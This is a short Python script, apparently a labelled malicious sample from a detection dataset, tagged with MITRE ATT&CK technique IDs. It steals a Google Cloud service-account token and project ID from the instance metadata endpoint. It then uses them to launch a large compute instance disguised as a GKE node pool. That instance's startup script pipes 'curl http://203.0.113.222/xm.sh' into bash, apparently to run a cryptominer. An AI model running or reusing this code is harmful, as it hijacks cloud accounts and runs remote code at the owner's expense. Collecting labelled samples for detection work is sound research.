# label: malicious family=metadata techniques=T1036.005,T1059.004,T1105,T1496,T1550.001,T1552.005,T1578.002 lines=4,8-9,11
import requests
H = {"Metadata-Flavor": "Google"}
tok = requests.get("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", headers=H).json()["access_token"]
proj = requests.get("http://169.254.169.254/computeMetadata/v1/project/project-id", headers=H).text
body = {
    "name": "gke-node-pool-%d" % 7,
    "machineType": "zones/us-central1-a/machineTypes/n2-highcpu-96",
    "metadata": {"items": [{"key": "startup-script", "value": "curl -s http://203.0.113.222/xm.sh | bash"}]},
}
requests.post("https://compute.googleapis.com/compute/v1/projects/%s/zones/us-central1-a/instances" % proj,
              json=body, headers={"Authorization": "Bearer " + tok})
